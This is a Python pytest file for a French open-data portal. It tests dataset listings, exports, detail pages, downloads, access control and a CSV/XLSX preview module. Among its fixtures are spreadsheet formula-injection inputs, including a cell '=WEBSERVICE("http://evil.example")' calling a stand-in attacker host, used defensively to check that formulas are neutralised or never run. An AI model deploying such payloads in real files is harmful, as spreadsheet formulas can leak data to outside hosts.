"""The public dataset pages as a visitor meets them: /donnees/ (filters, pages, CSV and JSON
exports of the same listing), a dataset's page (facts, licence link, resources with download,
API endpoint, schema badge only when conformant, tabular preview), and the download of a
document resource — anything not public answers 404."""

from __future__ import annotations

import csv
import io
import json
import uuid

import pytest
from django.test import Client
from django.urls import reverse

from identity.models import Membership
from opendata.models import Dataset
from tests.factories import (
    make_agent,
    make_dataset,
    make_dataset_resource,
    make_open_document,
    make_territory,
)


@pytest.fixture(autouse=True)
def private_storage(settings, tmp_path):
    settings.STORAGES = {
        **settings.STORAGES,
        "documents": {
            "BACKEND": "django.core.files.storage.FileSystemStorage",
            "OPTIONS": {"location": str(tmp_path / "private"), "base_url": None},
        },
    }


@pytest.fixture
def territory(db):
    return make_territory()


def detail_url(dataset: Dataset) -> str:
    return reverse("opendata:dataset_detail", kwargs={"identifier": dataset.identifier})


def test_listing_shows_public_datasets_only(client: Client, territory) -> None:
    public = make_dataset(territory["merignac"], title="Écoles de Mérignac")
    make_dataset(territory["merignac"], status="draft", title="Brouillon secret")
    make_dataset(territory["merignac"], status="withdrawn", title="Ancien jeu retiré")
    response = client.get("/donnees/")
    assert response.status_code == 200
    text = response.content.decode()
    assert "Écoles de Mérignac" in text
    assert detail_url(public) in text
    assert "Brouillon secret" not in text
    assert "Ancien jeu retiré" not in text
    assert 'href="/donnees/"' in text  # the main navigation link


def test_listing_filters_by_authority_and_theme(client: Client, territory) -> None:
    make_dataset(territory["merignac"], title="Budget Mérignac", themes=["ECON"])
    make_dataset(territory["merignac"], title="Transports Mérignac", themes=["TRAN"])
    make_dataset(territory["bordeaux"], title="Budget Bordeaux", themes=["ECON"])
    text = client.get("/donnees/?collectivite=33281&theme=ECON").content.decode()
    assert "Budget Mérignac" in text
    assert "Transports Mérignac" not in text
    assert "Budget Bordeaux" not in text
    # Unknown filter values are ignored, never a 500.
    assert client.get("/donnees/?collectivite=99999&theme=NOPE").status_code == 200


def test_listing_is_paginated(client: Client, territory) -> None:
    for n in range(25):
        make_dataset(territory["merignac"], title=f"Jeu numéro {n:02d}")
    first = client.get("/donnees/").content.decode()
    assert first.count("Jeu numéro") == 20
    assert 'rel="next"' in first
    second = client.get("/donnees/?page=2").content.decode()
    assert second.count("Jeu numéro") == 5
    assert client.get("/donnees/?page=9").status_code == 404
    assert client.get("/donnees/?page=abc").status_code == 404


def test_listing_exports_csv_and_json_with_the_same_filters(client: Client, territory) -> None:
    make_dataset(territory["merignac"], title='=HYPERLINK("x")', themes=["ECON"])
    make_dataset(territory["bordeaux"], title="Budget Bordeaux", themes=["ECON"])
    make_dataset(territory["merignac"], status="draft", title="Brouillon")
    response = client.get("/donnees/?format=json&collectivite=33281")
    assert response.status_code == 200
    data = json.loads(response.content)
    assert data["count"] == 1
    assert data["results"][0]["code_collectivite"] == "33281"
    response = client.get("/donnees/?format=csv&theme=ECON")
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {row["collectivite"] for row in rows} == {"Mérignac", "Bordeaux"}
    # A title that looks like a formula is neutralised for spreadsheets.
    assert any(row["titre"].startswith("'=") for row in rows)
    assert client.get("/donnees/?format=xml").status_code == 400


def test_dataset_page_shows_facts_resources_and_preview(client: Client, territory) -> None:
    merignac = territory["merignac"]
    dataset = make_dataset(
        merignac, title="Équipements sportifs", licence="odc-odbl", keywords=["sport"]
    )
    csv_doc = make_open_document(
        merignac, content=b"nom;places;ouvert\nStade;1200;oui\nPiscine;300;non\n"
    )
    make_dataset_resource(dataset, document=csv_doc, title="Liste des équipements")
    make_dataset_resource(dataset, kind="api", title="API des documents")
    make_dataset_resource(
        dataset,
        kind="document",
        title="Schéma vérifié",
        schema_url="https://schema.data.gouv.fr/scdl/deliberations/2.1.5/",
        schema_valid=True,
    )
    make_dataset_resource(
        dataset,
        kind="document",
        title="Schéma non vérifié",
        schema_url="https://schema.data.gouv.fr/scdl/budget/",
        schema_valid=None,
    )
    response = client.get(detail_url(dataset))
    assert response.status_code == 200
    text = response.content.decode()
    assert "Équipements sportifs" in text
    assert "https://opendatacommons.org/licenses/odbl/1-0/" in text
    assert "Annuelle" in text
    assert "sport" in text
    assert "Liste des équipements" in text
    assert "/api/v1/documents/?authority_code=33281" in text
    assert text.count("Conforme au schéma") == 1
    # The preview: column names, types, first rows.
    assert '<th scope="col">places</th>' in text
    assert "entier" in text
    assert "Piscine" in text
    # The alternate link for harvesters, in the head.
    head = text.split("</head>")[0]
    assert f"/donnees/{dataset.identifier}.ttl" in head
    assert 'rel="alternate"' in head


def test_download_streams_public_document_resources(client: Client, territory) -> None:
    dataset = make_dataset(territory["merignac"])
    resource = make_dataset_resource(
        dataset, document=make_open_document(territory["merignac"], content=b"a,b\n1,2\n")
    )
    url = reverse(
        "opendata:resource_download",
        kwargs={"identifier": dataset.identifier, "resource_id": resource.pk},
    )
    response = client.get(url)
    assert response.status_code == 200
    assert b"".join(response.streaming_content) == b"a,b\n1,2\n"
    assert response["X-Content-Type-Options"] == "nosniff"
    # Counted server-side, no cookie, no address: shown on the dataset page.
    assert resource.daily_stats.get().downloads == 1
    assert "1 téléchargement," in client.get(detail_url(dataset)).content.decode()


def test_download_of_a_non_public_document_is_404(client: Client, territory) -> None:
    merignac = territory["merignac"]
    dataset = make_dataset(merignac)
    private = make_dataset_resource(
        dataset, document=make_open_document(merignac, audience="agents")
    )
    withdrawn = make_dataset_resource(
        dataset, document=make_open_document(merignac, status="withdrawn")
    )
    api = make_dataset_resource(dataset, kind="api")
    for resource in (private, withdrawn, api):
        url = reverse(
            "opendata:resource_download",
            kwargs={"identifier": dataset.identifier, "resource_id": resource.pk},
        )
        assert client.get(url).status_code == 404
    text = client.get(detail_url(dataset)).content.decode()
    assert private.title not in text
    assert withdrawn.title not in text


def test_drafts_are_404_to_the_public_and_shown_to_editors(client: Client, territory) -> None:
    merignac = territory["merignac"]
    draft = make_dataset(merignac, status="draft", title="Jeu en préparation")
    assert client.get(detail_url(draft)).status_code == 404
    assert client.get(f"/donnees/{uuid.uuid4()}/").status_code == 404
    client.force_login(make_agent(roles=[(merignac, Membership.Role.PUBLISHER)]))
    response = client.get(detail_url(draft))
    assert response.status_code == 200
    assert "Brouillon" in response.content.decode()
    client.force_login(make_agent(roles=[(territory["bordeaux"], Membership.Role.PUBLISHER)]))
    assert client.get(detail_url(draft)).status_code == 404


# --- the preview, with hostile files ---------------------------------------------------------


def test_preview_handles_windows_1252_and_formulas() -> None:
    from opendata.preview import preview_csv

    preview = preview_csv("nom;montant\nÉcole;=1+1\nCrèche;12,5\n".encode("cp1252"))
    assert preview is not None
    assert preview.columns == ["nom", "montant"]
    assert preview.rows[0] == ["École", "=1+1"]  # shown as text, never computed
    assert preview.types == ["texte", "texte"]


def test_preview_caps_rows_columns_and_cells() -> None:
    from opendata.preview import MAX_CELL, MAX_COLUMNS, MAX_ROWS, preview_csv

    header = ",".join(f"c{i}" for i in range(55))
    line = ",".join("x" * 205 for _ in range(55))
    raw = (header + "\n" + "\n".join(line for _ in range(100))).encode()
    preview = preview_csv(raw)
    assert preview is not None
    assert len(preview.columns) == MAX_COLUMNS
    assert len(preview.rows) == MAX_ROWS
    assert all(len(cell) <= MAX_CELL for row in preview.rows for cell in row)
    assert preview.truncated


def test_preview_refuses_binary_and_survives_huge_input() -> None:
    from opendata.preview import preview_csv, preview_xlsx

    assert preview_csv(b"\x00\x01\x02PK\x03\x04") is None
    assert preview_csv(b"") is None
    assert preview_xlsx(b"PK\x03\x04 not a zip") is None
    big = b"a,b\n" + b"1,2\n" * 200_000  # 800 kB: only the first 256 kB are read
    preview = preview_csv(big)
    assert preview is not None
    assert preview.types == ["entier", "entier"]


def test_preview_reads_xlsx_values_without_running_formulas() -> None:
    import io

    from openpyxl import Workbook

    from opendata.preview import preview_xlsx

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["nom", "total"])
    sheet.append(["École", 3])
    sheet.append(["Crèche", '=WEBSERVICE("http://evil.example")'])
    buffer = io.BytesIO()
    workbook.save(buffer)
    preview = preview_xlsx(buffer.getvalue())
    assert preview is not None
    assert preview.columns == ["nom", "total"]
    # data_only: a formula never computed by a spreadsheet has no cached value: empty.
    assert preview.rows[1] == ["Crèche", ""]
